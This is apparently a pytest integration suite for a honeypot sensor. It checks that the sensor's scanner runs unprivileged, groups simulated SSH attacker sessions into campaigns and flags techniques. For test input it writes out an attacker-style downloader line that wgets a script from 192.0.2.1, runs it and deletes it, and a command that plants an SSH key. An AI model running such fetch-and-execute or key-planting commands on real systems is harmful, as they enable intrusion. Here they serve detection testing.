"""What a whole sensor makes of an attacker: techniques, campaigns, and files looked at by processes without power."""

import hashlib
import json
import os
import pwd
import signal
from pathlib import Path
from typing import Any

import pytest

from tests.sensors import Sensor, Start, wait_until
from tests.unit.analysis.test_scans import KEY

pytestmark = [pytest.mark.root, pytest.mark.timeout(300)]


@pytest.fixture(scope="module")
def sensor(start: Start) -> Sensor:
    return start()


def children(pid: int) -> list[int]:
    try:
        return [int(it) for it in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
    except OSError:
        return []


def scanner_of(sensor: Sensor) -> int:
    """The scanner's pid; 0 while there is none."""
    return next(iter(children(sensor.pids().get("analyst", 0))), 0)


def told(sensor: Sensor, *arguments: str) -> Any:
    """What a command says as JSON; None while it fails."""
    result = sensor.hermes(*arguments, "--json")
    return json.loads(result.stdout) if result.returncode == 0 else None


def test_the_scanner_has_no_power_and_comes_back_with_the_analyst(sensor: Sensor) -> None:
    wait_until(lambda: scanner_of(sensor) != 0)
    before = scanner_of(sensor)
    status = dict(it.split(":\t", 1) for it in Path(f"/proc/{before}/status").read_text().splitlines() if ":\t" in it)
    assert status["Uid"].split() == [str(pwd.getpwnam("hermes").pw_uid)] * 4
    assert {status[name] for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")} == {"0" * 16}
    assert status["NoNewPrivs"] == "1"
    assert len(list(Path(f"/proc/{before}/fd").iterdir())) == 4
    os.kill(before, signal.SIGKILL)
    os.kill(sensor.pids()["analyst"], signal.SIGKILL)
    wait_until(lambda: scanner_of(sensor) not in (0, before))


def test_sessions_show_techniques_and_are_joined(sensor: Sensor) -> None:
    for _ in range(2):
        sensor.ssh(f'mkdir -p ~/.ssh; echo "{KEY} x" >> ~/.ssh/authorized_keys; uname -a')
    wait_until(lambda: (told(sensor, "campaigns", "list") or [{}])[0].get("sessions") == 2)
    (campaign,) = told(sensor, "campaigns", "list")
    assert campaign["reasons"][0]["kind"] == "key"
    members = told(sensor, "campaigns", "show", campaign["id"])["session_list"]
    found = told(sensor, "techniques", "show", members[0]["session_id"])
    assert {"planted-key", "system-information", "unix-shell"} <= {it["rule"] for it in found["techniques"]}
    bundle = sensor.hermes("stix", "session", members[0]["session_id"])
    assert json.loads(bundle.stdout)["type"] == "bundle"
    assert "imported too late" not in sensor.said()
    assert "Traceback" not in sensor.said()


def test_files_are_looked_at_whether_they_were_written_or_piped_in(sensor: Sensor) -> None:
    script = b"cd /tmp; wget http://192.0.2.1/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh\n" * 2
    assert sensor.ssh("cat > /tmp/dropped", stdin=script + b"# written\n").returncode == 0
    assert sensor.ssh("sh -s -- none 2>/dev/null; exit 0", stdin=script + b"# piped\n").returncode == 0
    hashes = [hashlib.sha256(script + it).hexdigest() for it in (b"# written\n", b"# piped\n")]

    def looked_at() -> list[dict[str, Any]] | None:
        sessions = [it["session_id"] for it in sensor.json("sessions", "list")]
        files = [it for session in sessions for it in (told(sensor, "techniques", "show", session) or {"files": []})["files"]]
        found = [it for it in files if it["sha256"] in hashes and it["state"] in ("done", "failed")]
        return found if {it["sha256"] for it in found} == set(hashes) else None

    for file in wait_until(looked_at):
        assert file["failure"] is None
        assert file["mime"].startswith("text/")
        assert "downloader_script" in [it["rule"] for it in file["matches"]]
